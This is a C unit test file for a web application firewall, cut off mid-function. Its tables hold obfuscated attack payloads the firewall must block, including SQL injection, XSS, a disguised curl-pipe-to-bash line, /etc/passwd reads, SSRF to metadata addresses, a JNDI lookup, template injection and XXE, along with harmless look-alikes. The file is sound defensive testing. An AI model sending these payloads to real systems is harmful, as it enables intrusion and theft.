/* check_waf.c: the WAF engine against held-out attacks (notations the
 * corpus does not use) and hard harmless developer chat, plus the
 * normaliser, the SSRF address checks and hostile-input bounds. */
#include "core/http.h"
#include "waf/waf.h"
#include "waf/waf_detect.h"
#include "waf/waf_input.h"
#include "waf/waf_norm.h"
#include "waf/waf_rules.h"
#include "waf/waf_ssrf.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "tests/unit/run_suite.h"

#include "tests/unit/waf_fixture.h"

struct wcase {
	int line;
	int block;
	const char *method, *path, *query, *headers, *ctype, *body;
};

#define JSON "application/json"
#define FORM "application/x-www-form-urlencoded"
#define MSG "/api/v1/channels/7/messages"

static const struct wcase cases[] = {
	/* SQL injection in notations the corpus does not use. */
	{__LINE__, 1, "GET", "/api/v1/users", "search=%2527%2520or%25201%253D1--", NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/api/v1/users", "search=x%27%09||%09%27a%27%3D%27a", NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/api/v1/admin/users", "sort=name%20desc;WAITFOR%20DELAY%20%270:0:5%27--", NULL, NULL, NULL},
	{__LINE__, 1, "POST", "/api/v1/auth/login", NULL, NULL, JSON, "{\"username\":\"a\\u0027 OR \\u00271\\u0027=\\u00271\",\"password\":\"x\"}"},
	{__LINE__, 1, "GET", "/api/v1/channels/1/messages", "before=1%20AnD%20SlEeP(5)", NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/api/v1/users", "search=%uFF07%20union%20all%20select%20null,null--", NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/api/v1/users", "search=1'/*!12345UnIoN*/(sElEcT 1)", NULL, NULL, NULL},
	/* XSS. */
	{__LINE__, 1, "GET", "/search", "q=%3CIMG%20SRC%3D%22x%22%20ONERROR%3D%22alert(1)%22%3E", NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/search", "q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B", NULL, NULL, NULL},
	{__LINE__, 1, "PATCH", "/api/v1/users/me", NULL, NULL, JSON, "{\"display_name\":\"<a href=' javas\\tcript:alert(1)'>x</a>\"}"},
	{__LINE__, 1, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"look <iframe src=//evil.example></iframe>\"}"},
	{__LINE__, 1, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"![x](javascript:alert(1))\"}"},
	{__LINE__, 1, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"`code` then <svg onload=alert(1)>\"}"},
	{__LINE__, 1, "POST", "/c/general/post", NULL, NULL, FORM, "text=%3Cbase+href%3D%22https%3A%2F%2Fevil.example%2F%22%3E"},
	/* Command injection, traversal, SSRF. */
	{__LINE__, 1, "GET", "/api/v1/admin/diagnostics/ping", "host=8.8.8.8%7C%7Ccat%20/etc/hostname", NULL, NULL, NULL},
	{__LINE__, 1, "POST", "/api/v1/admin/diagnostics/dns", NULL, NULL, JSON, "{\"host\":\"a.com;${IFS}cat${IFS}/etc/passwd\"}"},
	{__LINE__, 1, "GET", "/static/..%252f..%252f..%252fetc/passwd", NULL, NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/static/%u002e%u002e/%u002e%u002e/etc/passwd", NULL, NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/api/v1/files/download", "path=....//....//etc/passwd", NULL, NULL, NULL},
	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://0x7f.0.0.1/\"}"},
	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://[::ffff:169.254.169.254]/\"}"},
	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://\\uff11\\uff12\\uff17\\u3002\\uff10\\u3002\\uff10\\u3002\\uff11/\"}"},
	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://evil.example@10.0.0.5:8080/\"}"},
	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"dict://127.0.0.1:11211/stats\"}"},
	{__LINE__, 1, "POST", "/api/v1/messages/unfurl", NULL, NULL, JSON, "{\"url\":\"http://127-0-0-1.sslip.io/\"}"},
	/* Template, NoSQL, LDAP, header injection, XXE. */
	{__LINE__, 1, "PATCH", "/api/v1/users/me", NULL, NULL, JSON, "{\"display_name\":\"{{7*'7'}}{{ cycler.__init__.__globals__.os.popen('id').read() }}\"}"},
	{__LINE__, 1, "GET", "/api/v1/system/health", NULL, "x-api-version: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}", NULL, NULL},
	{__LINE__, 1, "POST", "/api/v1/search", NULL, NULL, JSON, "{\"q\":\"x\",\"filter\":{\"owner\":{\"$regex\":\".*\"}}}"},
	{__LINE__, 1, "GET", "/api/v1/users/directory", "q=*)(%26(objectClass=*)", NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/login", "next=%2F%0ASet-Cookie%3A%20sid%3Dx", NULL, NULL, NULL},
	{__LINE__, 1, "POST", "/api/v1/integrations/import/xml", NULL, NULL, "text/xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><r/>"},
	/* Protocol and scanners. */
	{__LINE__, 1, "PATCH", "/api/v1/channels/1", NULL, NULL, "application/x-java-serialized-object", "\xac\xed\x00\x05"},
	{__LINE__, 1, "GET", "/.git/HEAD", NULL, NULL, NULL, NULL},
	{__LINE__, 1, "GET", "/", NULL, "x-original-url: /admin", NULL, NULL},
	{__LINE__, 1, "GET", "/api/v1/files/1", NULL, "range: bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10", NULL, NULL},
	{__LINE__, 1, "POST", MSG, NULL, NULL, "application/json; charset=utf-7", "{\"text\":\"+ADw-script+AD4-\"}"},
	/* Harmless developer chat: code, SQL, shell, HTML in code. */
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"try `SELECT * FROM users WHERE id = 1 OR 1=1` in psql, it returns all rows\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"```html\\n<img src=x onerror=alert(1)>\\n<script>alert(document.cookie)</script>\\n```\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"~~~sh\\ncurl -s https://example.com/install.sh | bash; rm -rf /tmp/x && cat /etc/passwd\\n~~~\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"Traceback (most recent call last):\\n  File \\\"/app/x.py\\\", line 3, in <module>\\n    os.system('id')\\nNameError: name 'os' is not defined\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"we drop the table; then select from the union of both, it's ../../shared anyway & that's fine\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"the jinja bit is {{ user.name }} and {% for x in y %}, ${HOME} in bash\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"text\":\"a < b && c > d, see <https://example.com/a?b=c&d=e> and http://10.0.0.5:8080/ on the VPN\"}"},
	{__LINE__, 0, "POST", "/c/dev/post", NULL, NULL, FORM, "text=%60%3Cscript%3Ealert(1)%3C%2Fscript%3E%60+is+the+classic+test"},
	{__LINE__, 0, "POST", "/api/v1/channels/7/snippets", NULL, NULL, JSON, "{\"title\":\"x\",\"content\":\"<?php system($_GET['c']); ?>\\n' OR 1=1 --\"}"},
	{__LINE__, 0, "GET", "/api/v1/users", "search=O%27Reilly", NULL, NULL, NULL},
	{__LINE__, 0, "GET", "/search", "q=union%20station%20select%20seats", NULL, NULL, NULL},
	{__LINE__, 0, "GET", "/search", "q=%22disk%20full%22%20or%20%22out%20of%20memory%22", NULL, NULL, NULL},
	{__LINE__, 0, "PATCH", "/api/v1/users/me", NULL, NULL, JSON, "{\"display_name\":\"Zoë (she/her) | ops & infra; on call\",\"status_text\":\"back at 3 -- maybe 4\"}"},
	{__LINE__, 0, "POST", "/api/v1/auth/login", NULL, NULL, JSON, "{\"username\":\"jo\",\"password\":\"p4ss'w\\\"rd<>;|&$()\"}"},
	{__LINE__, 0, "POST", "/api/v1/integrations/webhooks", NULL, NULL, JSON, "{\"url\":\"https://hooks.example.org/services/T1/B2?token=a%2Fb\",\"events\":[\"message.created\"]}"},
	{__LINE__, 0, "GET", "/static/app.3f9a.js", NULL, "if-none-match: W/\"3f9a-17\"\naccept-language: de-CH,de;q=0.9,en;q=0.5\nsec-fetch-mode: no-cors", NULL, NULL},
	{__LINE__, 0, "DELETE", "/api/v1/channels/12/messages/99812/reactions/%F0%9F%91%8D", NULL, NULL, NULL, NULL},
	{__LINE__, 0, "OPTIONS", "/api/v1/channels", NULL, "origin: https://chat.example.com\naccess-control-request-method: POST", NULL, NULL},
};

/* Families added for requests the rules once missed (issue 13, "WAF that
 * generalises"). Each family covers a technique, not one sample: the
 * "block" rows passed before its detector or rule existed (except the
 * protocol rows marked "kept", which pin down coverage that was already
 * there), and the "pass" rows are the look-alikes each must leave alone.
 * Profiles come from the route, as in the pipeline. */
#define PROFILE "/api/v1/users/me"
#define SEARCH "/api/v1/search"
static const struct wcase gcases[] = {
	/* Command words split by shell quoting (150108, and the shell view of
	 * 150100-150105). */
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"c'a't /e\\\"t\\\"c/pa''sswd\"}"},
	{__LINE__, 1, "GET", SEARCH, "q=w%5Cho%5Cam%5Ci", NULL, NULL, NULL},
	{__LINE__, 1, "GET", SEARCH, "q=w%24%40hoami", NULL, NULL, NULL},
	{__LINE__, 1, "GET", SEARCH, "q=c%24%7B%40%7Dat%20notes.txt", NULL, NULL, NULL},
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"$'\\\\x69\\\\x64'\"}"},
	{__LINE__, 1, "POST", "/api/v1/channels", NULL, NULL, JSON, "{\"name\":\"x\",\"topic\":\"a;c\\\"u\\\"rl -s 203.0.113.4|b''ash\"}"},
	{__LINE__, 1, "GET", SEARCH, "q=x%7C%7Cp%27y%27thon3%20-c%20%27import%20os%27", NULL, NULL, NULL},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"I'd rather `cat` the file\"}"},
	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"I'd rather not say\"}"},
	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"D'Arcy O'Neil-D'Souza\"}"},
	{__LINE__, 0, "GET", SEARCH, "q=rock%27n%27roll%20%22cat%22%20videos", NULL, NULL, NULL},
	{__LINE__, 0, "GET", SEARCH, "q=C%3A%5CUsers%5Cid%5Cdocs", NULL, NULL, NULL},
	{__LINE__, 0, "GET", SEARCH, "q=price%20%245%20or%20%2410", NULL, NULL, NULL},
	/* Paths spelled with wildcards (150109). */
	{__LINE__, 1, "GET", SEARCH, "q=x;/%3F%3F%3F/c%3Ft%20/e%3F%3F/p%3Fss*", NULL, NULL, NULL},
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"x|/u*r/b?n/i?\"}"},
	{__LINE__, 1, "GET", "/", NULL, "referer: https://x.example/?a=|/b[i]n/s[h]", NULL, NULL},
	{__LINE__, 0, "GET", SEARCH, "q=/api/*/messages", NULL, NULL, NULL},
	{__LINE__, 0, "GET", SEARCH, "q=*.pdf%20or%20*.png?", NULL, NULL, NULL},
	{__LINE__, 0, "GET", SEARCH, "q=https://example.com/a?b=1&c=d", NULL, NULL, NULL},
	/* Git and ssh argument injection, ext:: transport (150110). */
	{__LINE__, 1, "GET", SEARCH, "q=main&ref=--upload-pack%3Dtouch%20/tmp/x", NULL, NULL, NULL},
	{__LINE__, 1, "POST", "/api/v1/channels", NULL, NULL, JSON, "{\"name\":\"m\",\"repo\":\"-c core.sshCommand=touch /tmp/y\"}"},
	{__LINE__, 1, "POST", "/api/v1/channels", NULL, NULL, JSON, "{\"name\":\"m\",\"repo\":\"ext::sh -c touch% /tmp/z\"}"},
	{__LINE__, 1, "GET", SEARCH, "q=x&remote=--config%3Dprotocol.ext.allow%3Dalways", NULL, NULL, NULL},
	{__LINE__, 1, "GET", SEARCH, "q=x&host=-oProxyCommand%3Dsh%20-c%20id", NULL, NULL, NULL},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"use git -c core.sshCommand=\\\"ssh -i ~/.ssh/deploy\\\" clone, or --upload-pack if the remote moved\"}"},
	{__LINE__, 0, "GET", SEARCH, "q=git%20clone%20--depth%201", NULL, NULL, NULL},
	{__LINE__, 0, "GET", SEARCH, "q=curl%20--output%20file.txt%20-c%20cookies", NULL, NULL, NULL},
	/* Template probes that tell engines apart (160101, 160107). */
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"{{7*'7'}}\"}"},
	{__LINE__, 1, "GET", SEARCH, "q=%7B%7B%20%227%22*7%20%7D%7D", NULL, NULL, NULL},
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"<%- 7*7 -%>\"}"},
	{__LINE__, 1, "PUT", "/api/v1/channels/7/topic", NULL, NULL, JSON, "{\"topic\":\"@{ var x = 7*7; }\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"{{ name }} in our Jinja template docs, and {{7*'7'}} prints 7777777\"}"},
	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"{{ name }} fan @{team}\"}"},
	{__LINE__, 0, "GET", SEARCH, "q=why%20is%207*7%3D49%20@(home)", NULL, NULL, NULL},
	/* SQL: parenthesis breakout (130100) and SET-list injection (130113). */
	{__LINE__, 1, "GET", SEARCH, "q=%27))%20OR%20((1%3D1", NULL, NULL, NULL},
	{__LINE__, 1, "GET", SEARCH, "q=x%27)%20or%20(%27a%27%3D%27a", NULL, NULL, NULL},
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"', is_admin=1 WHERE 1=1 --\"}"},
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"bio\":\"x', role='owner\"}"},
	{__LINE__, 1, "POST", "/settings/profile", NULL, NULL, FORM, "display_name=a%22%2C+email%3D%27x%40evil.example"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"SELECT * FROM users WHERE id=1 -- is this right?\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"UPDATE users SET name='x', role='admin' WHERE id = 1; is that atomic?\"}"},
	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"Smith, John (ops)\",\"bio\":\"I'm 'Bob', not Robert; a=b is fine\"}"},
	{__LINE__, 0, "GET", SEARCH, "q=(api%20OR%20sdk)%20AND%20(docs)", NULL, NULL, NULL},
	/* JavaScript string-context breakout (140107). */
	{__LINE__, 1, "GET", SEARCH, "q=%27%3Balert(1)%2F%2F", NULL, NULL, NULL},
	{__LINE__, 1, "GET", SEARCH, "q=%22-alert(1)-%22", NULL, NULL, NULL},
	{__LINE__, 1, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"\\\\\\\";alert(1);//\"}"},
	{__LINE__, 1, "GET", SEARCH, "q=%27%7D%5D%3Btop%5B%27al%27%2B%27ert%27%5D(1)%2F%2F", NULL, NULL, NULL},
	{__LINE__, 0, "GET", SEARCH, "q=it%27s%20-%20a%20(test)", NULL, NULL, NULL},
	{__LINE__, 0, "PATCH", PROFILE, NULL, NULL, JSON, "{\"display_name\":\"\\\"Bob\\\" - King (ops)\"}"},
	{__LINE__, 0, "POST", MSG, NULL, NULL, JSON, "{\"body\":\"in JS, 'a' + f(x) + 'b' concatenates; alert(1) pops a dialog\"}"},
	/* Scanner user agents (110100). */
	{__LINE__, 1, "GET", "/", NULL, "user-agent: Fuzz Faster U Fool v2.1.0-dev", NULL, NULL},
	{__LINE__, 1, "GET", "/", NULL, "user-agent: Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", NULL, NULL},
	{__LINE__, 1, "GET", "/", NULL, "user-agent: dirsearch/0.4.3", NULL, NULL},
	{__LINE__, 0, "GET", "/", NULL, "user-agent: PostmanRuntime/7.37.3", NULL, NULL},
	{__LINE__, 0, "GET", "/", NULL, "user-agent: Go-http-client/2.0", NULL, NULL},
	/* Protocol: smuggling framings, httpoxy (in-process; web servers may
	 * drop both before PlexiChat sees them) and data after the end of a
	 * multipart body (100133). */
	{__LINE__, 1, "POST", MSG, NULL, "transfer-encoding: chunked", JSON, "{\"body\":\"x\"}"}, /* kept */
	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "transfer-encoding: chunked , identity", NULL, NULL}, /* kept */
	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "transfer-encoding: xchunked", NULL, NULL}, /* kept */
	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "proxy: http://203.0.113.7:3128", NULL, NULL}, /* kept */
	{__LINE__, 1, "GET", "/api/v1/channels", NULL, "transfer-encoding: chunked\ntransfer-encoding: chunked", NULL, NULL},
	{__LINE__, 1, "POST", "/settings/profile", NULL, NULL, "multipart/form-data; boundary=q",
	 "--q\r\nContent-Disposition: form-data; name=\"display_name\"\r\n\r\nAda\r\n--q--\r\n"
	 "--q\r\nContent-Disposition: form-data; name=\"role\"\r\n\r\nadmin\r\n--q--\r\n"},
	{__LINE__, 1, "POST", "/settings/profile", NULL, NULL, "multipart/form-data; boundary=q",
	 "--q\r\nContent-Disposition: form-data; name=\"display_name\"\r\n\r\nAda\r\n--q--\r\nrole=admin"},
	{__LINE__, 0, "POST", "/settings/profile", NULL, NULL, "multipart/form-data; boundary=q",
	 "--q\r\nContent-Disposition: form-data; name=\"display_name\"\r\n\r\nAda\r\n--q--\r\n\r\n"},
	{__LINE__, 0, "GET", "/api/v1/channels", NULL, "via: 1.1 edge\nx-forwarded-for: 198.51.100.2, 10.0.0.1", NULL, NULL},
};

START_TEST(test_generalised)
{
	const struct wcase *c = &gcases[_i];
	struct px_request r;
	struct px_waf_verdict v;
	struct px_buf js = PX_BUF_INIT;
	enum px_err e;

	wf_build(&r, c->method, c->path, c->query, c->headers, c->ctype, c->body,
		 c->body ? strlen(c->body) : 0);
	e = px_waf_inspect(wf_waf, &r, px_waf_profile_for_path(c->method, c->path), &v);
	px_waf_verdict_json(&v, &js);
	ck_assert_msg((e != PX_OK) == c->block, "line %d: expected %s, got %s %s", c->line,
		      c->block ? "block" : "pass", e != PX_OK ? "block" : "pass", js.data);
	px_buf_free(&js);
	px_request_clear(&r);
}
END_TEST

START_TEST(test_cases)
{
	const struct wcase *c = &cases[_i];
	struct px_request r;
	struct px_waf_verdict v;
	struct px_buf js = PX_BUF_INIT;
	const char *prof;
	enum px_err e;

	/* The serialized-Java body holds a NUL: its length is given. */
	wf_build(&r, c->method, c->path, c->query, c->headers, c->ctype, c->body,
		 !c->body ? 0 : (c->ctype && strncmp(c->ctype, "application/x-java", 18) == 0)
		 ? 4 : strlen(c->body));
	/* snippets have no route yet: their profile is tested on its own */
	prof = strstr(c->path, "/snippets") ? "snippet" : px_waf_profile_for_path(c->method, c->path);
	e = px_waf_inspect(wf_waf, &r, prof, &v);
	px_waf_verdict_json(&v, &js);
	ck_assert_msg((e != PX_OK) == c->block, "line %d: expected %s, got %s %s", c->line,
		      c->block ? "block" : "pass", e != PX_OK ? "block" : "pass", js.data);
	px_buf_free(&js);
	px_request_clear(&r);
}
END_TEST

/* Hostile input is refused in bounded time and memory. */
static enum px_err inspect_body(const char *method, const char *path, const char *ctype,
				const char *body, size_t n)
{
	struct px_request r;
	struct px_waf_verdict v;
	enum px_err e;

	wf_build(&r, method, path, NULL, NULL, ctype, body, n);
	e = px_waf_inspect(wf_waf, &r, px_waf_profile_for_path(method, path), &v);
	px_request_clear(&r);
	return e;
}

START_TEST(test_deep_json)
{
	size_t n = 10000, i;
	char *b = malloc(2 * n + 1);

	for (i = 0; i < n; i++) {
		b[i] = '[';
		b[n + i] = ']';
	}
	b[2 * n] = '\0';
	ck_assert_int_eq(inspect_body("POST", MSG, JSON, b, 2 * n), PX_E_SECURITY_REQUEST_BLOCKED);
	free(b);
}
END_TEST

START_TEST(test_many_params)
{
	struct px_buf q = PX_BUF_INIT;
	struct px_request r;
	struct px_waf_verdict v;
	int i;

	for (i = 0; i < 50000; i++)
		px_buf_printf(&q, "%sp%d=%d", i ? "&" : "", i, i);
	wf_build(&r, "GET", "/api/v1/users", q.data, NULL, NULL, NULL, 0);
	ck_assert_int_eq(px_waf_inspect(wf_waf, &r, "search", &v), PX_E_SECURITY_REQUEST_BLOCKED);
	px_request_clear(&r);
	px_buf_free(&q);
}
END_TEST

START_TEST(test_huge_header)
{
	struct px_request r;
	struct px_waf_verdict v;
	char *big = malloc(1024 * 1024 + 1);

	memset(big, 'a', 1024 * 1024);
	big[1024 * 1024] = '\0';
	wf_build(&r, "GET", "/", NULL, NULL, NULL, NULL, 0);
	wf_header(&r, "x-big", big);
	ck_assert_int_eq(px_waf_inspect(wf_waf, &r, NULL, &v), PX_E_SECURITY_REQUEST_BLOCKED);
	px_request_clear(&r);
	free(big);
}
END_TEST

START_TEST(test_bad_bodies)
{
	static const char mp[] = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nhello";

	ck_assert_int_eq(inspect_body("POST", "/api/v1/files", "multipart/form-data; boundary=b",
				      mp, sizeof(mp) - 1), PX_E_SECURITY_REQUEST_BLOCKED);
	ck_assert_int_eq(inspect_body("POST", "/login", FORM, "username=%zz%&password=%", 24),
			 PX_E_SECURITY_REQUEST_BLOCKED);
	ck_assert_int_eq(inspect_body("POST", "/login", FORM, "username=a%00b&password=x", 25),
			 PX_E_SECURITY_REQUEST_BLOCKED);
	ck_assert_int_eq(inspect_body("POST", "/login", FORM, "username=%c0%af&password=x", 26),
			 PX_E_SECURITY_REQUEST_BLOCKED);
	ck_assert_int_eq(inspect_body("POST", MSG, JSON, "{\"text\":\"a\\u0000b\"}", 20),
			 PX_E_SECURITY_REQUEST_BLOCKED);
	ck_assert_int_eq(inspect_body("POST", MSG, JSON, "{\"text\": tru", 12),
			 PX_E_SECURITY_REQUEST_BLOCKED);
}
END_TEST

struct shcase {
	int line;
	const char *in, *want;
	int changed;
};

static const struct shcase shcases[] = {
	{__LINE__, "c'a't /e\"t\"c/pa''sswd", "cat /etc/passwd", 1},
	{__LINE__, "w\\ho\\am\\i", "whoami", 1},
	{__LINE__, "w$@hoami;c${*}at", "whoami;cat", 1},
	{__LINE__, "cat${ifs}/etc/hosts$ifs-n", "cat /etc/hosts -n", 1},
	{__LINE__, "$'id'", "id", 1},
	{__LINE__, "plain words, no quoting", "plain words, no quoting", 0},
	{__LINE__, "$ifsx ${home}", "$ifsx ${home}", 0},
};

START_TEST(test_shell_view)
{
	const struct shcase *c = &shcases[_i];
	struct px_buf out = PX_BUF_INIT;
	int changed = px_waf_norm_shell(c->in, strlen(c->in), &out);

	ck_assert_msg(strcmp(out.data, c->want) == 0 && changed == c->changed,
		      "line %d: expected \"%s\" (%d), got \"%s\" (%d)", c->line, c->want,
		      c->changed, out.data, changed);
	px_buf_free(&out);
}
END_TEST

struct ncase {
	int line;
	const char *in;
	unsigned opts;
	const char *want;
	unsigned flags; /* flags that must be set */
};

static const struct ncase ncases[] = {
	{__LINE__, "%2527%2520OR", 0, "' or", PX_WAF_N_MULTI_DECODE},
	{__LINE__, "%c0%ae%c0%ae/", 0, "../", PX_WAF_N_OVERLONG},
	{__LINE__, "%uFF1Cscript%uFF1E", 0, "<script>", PX_WAF_N_PCT_U | PX_WAF_N_FOLDED},
	{__LINE__, "jav&#x09;ascript&colon;", PX_WAF_NO_URL, "jav\tascript:", PX_WAF_N_ENTITY},
	{__LINE__, "&amp;lt;b&amp;gt;", PX_WAF_NO_URL, "<b>", PX_WAF_N_ENTITY},
	{__LINE__, "\\u003cimg\\u003e", PX_WAF_NO_URL, "<img>", 0},
	{__LINE__, "a%00b", 0, "ab", PX_WAF_N_NUL},
	{__LINE__, "SeL\xe2\x80\x8b" "eCt", PX_WAF_NO_URL, "select", PX_WAF_N_FOLDED},
	{__LINE__, "100%", PX_WAF_PRE_DECODED, "100%", 0},
	{__LINE__, "%zz", 0, "%zz", PX_WAF_N_BAD_ESCAPE},
	{__LINE__, "\xe5\x98\x8a\xe5\x98\x8dSet", PX_WAF_NO_URL, "\xe5\x98\x8a\xe5\x98\x8dset", PX_WAF_N_LOWBYTE_CRLF},
};

START_TEST(test_norm)
{
	const struct ncase *c = &ncases[_i];
	struct px_buf out = PX_BUF_INIT, tmp = PX_BUF_INIT;
	unsigned f = px_waf_norm_text(c->in, strlen(c->in), c->opts, &out, &tmp);

	ck_assert_msg(strcmp(out.data, c->want) == 0 && (f & c->flags) == c->flags,
		      "line %d: expected \"%s\" flags %#x, got \"%s\" flags %#x", c->line,
		      c->want, c->flags, out.data, f);
	px_buf_free(&out);
	px_buf_free(&tmp);
}
END_TEST

START_TEST(test_sql_view)
{
	struct px_buf out = PX_BUF_INIT;
	const char *in = "1/*!50000union*//**/select\t\n1";

	px_waf_norm_sql(in, strlen(in), &out);
	ck_assert_str_eq(out.data, "1 union select 1");
	px_buf_free(&out);
}
END_TEST

struct scase {
	int line;
	const char *url;
	enum px_waf_ssrf want;
};

static const struct scase scases[] = {
	{__LINE__, "https://example.com/a", PX_WAF_SSRF_OK},
	{__LINE__, "https://203.0.113.9/x", PX_WAF_SSRF_OK},
	{__LINE__, "", PX_WAF_SSRF_OK},
	{__LINE__, "http://2130706433/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://0177.1/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://0x0a.0x00.0x00.0x01/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://[0:0:0:0:0:ffff:7f00:1]/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://[fe80::1%25eth0]/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://[64:ff9b::a9fe:a9fe]/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://0/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://%31%32%37.0.0.1/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://localhost./", PX_WAF_SSRF_NAME},
	{__LINE__, "http://app.localtest.me/", PX_WAF_SSRF_NAME},
	{__LINE__, "http://10.1.2.3.nip.io/", PX_WAF_SSRF_NAME},
	{__LINE__, "http://c0a80001.nip.io/", PX_WAF_SSRF_NAME},
	{__LINE__, "http://example.com\\@127.0.0.1/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "http://127.0.0.1\\@example.com/", PX_WAF_SSRF_ADDRESS},
	{__LINE__, "ftp://example.com/", PX_WAF_SSRF_SCHEME},
	{__LINE__, "jar:http://example.com!/", PX_WAF_SSRF_SCHEME},
	{__LINE__, " \thttp://169.254.169.254", PX_WAF_SSRF_ADDRESS},
};

START_TEST(test_ssrf)
{
	const struct scase *c = &scases[_i];
	enum px_waf_ssrf got = px_waf_ssrf_check_url(c->url, strlen(c->url));

	ck_assert_msg(got == c->want, "line %d: %s: expected %d, got %d", c->line, c->url,
		      c->want, got);
}
END_TEST

START_TEST(test_profiles_and_reload_errors)
{
	struct px_buf err = PX_BUF_INIT;
	struct px_waf *w = NULL;
	static const char bad[] = "[profile default]\n[rule 1]\ncategory = x\nwhere = arg\nmsg = m\nmatch = (\n";

	ck_assert_str_eq(px_waf_profile_for_path("POST", "/api/v1/channels/3/messages"), "message");
	ck_assert_str_eq(px_waf_profile_for_path("GET", "/api/v1/channels/3/messages?x=1"), "default");
	ck_assert_str_eq(px_waf_profile_for_path("PATCH", "/api/v1/users/me"), "profile");
	ck_assert_str_eq(px_waf_profile_for_path("GET", "/static/css/a.css"), "static");
	ck_assert_str_eq(px_waf_profile_for_path("GET", "/nowhere"), "default");
	ck_assert_int_eq(px_waf_load_text(bad, sizeof(bad) - 1, "bad.rules", &w, &err), -1);
	ck_assert_msg(strstr(err.data, "bad.rules:6:") != NULL, "got %s", err.data);
	ck_assert_ptr_null(w);
	ck_assert_uint_ge(px_waf_max_body(wf_waf, "upload"), 1024 * 1024);
	ck_assert_ptr_nonnull(px_waf_rule_msg(wf_waf, 130103));
	px_buf_free(&err);
}
END_TEST

/* The WAF walks a body as what the HTTP layer parses it into: one
 * media-type parser, so the same whitespace and casing on both sides. */
static const struct {
	int line;
	const char *ctype;
	int form, json; /* what px_parse_body makes of it */
} agree_cases[] = {
	{ __LINE__, "application/x-www-form-urlencoded", 1, 0 },
	{ __LINE__, "application/x-www-form-urlencoded\t; charset=utf-8", 1, 0 },
	{ __LINE__, "APPLICATION/X-WWW-FORM-URLENCODED ;charset=\"UTF-8\"", 1, 0 },
	{ __LINE__, " application/x-www-form-urlencoded", 1, 0 },
	{ __LINE__, "application/x-www-form-urlencoded garbage", 0, 0 },
	{ __LINE__, "application/x-www-form-urlencoded,text/plain", 0, 0 },
	{ __LINE__, "application/x-www-form-urlencodedx", 0, 0 },
	{ __LINE__, "application/x-www-form-urlencoded\v", 0, 0 },
	{ __LINE__, "application/json\t;charset=utf-8", 0, 1 },
	{ __LINE__, "Application/Json", 0, 1 },
	{ __LINE__, "application/json;", 0, 1 },
	{ __LINE__, "application/json x", 0, 0 },
};

struct seen {
	int form, json;
};

static int note_loc(void *ctx, const struct px_waf_value *v)
{
